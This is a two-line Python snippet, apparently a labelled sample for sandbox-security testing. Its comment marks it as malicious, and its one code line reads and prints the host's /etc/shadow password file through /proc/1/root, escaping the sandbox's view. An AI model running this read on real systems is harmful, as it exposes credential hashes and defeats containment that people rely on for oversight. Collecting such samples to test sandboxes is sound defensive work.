# Malicious: reads the host's /etc/shadow through /proc/1/root, a path outside the sandbox's view.
print(open("/proc/1/root/etc/shadow").read())
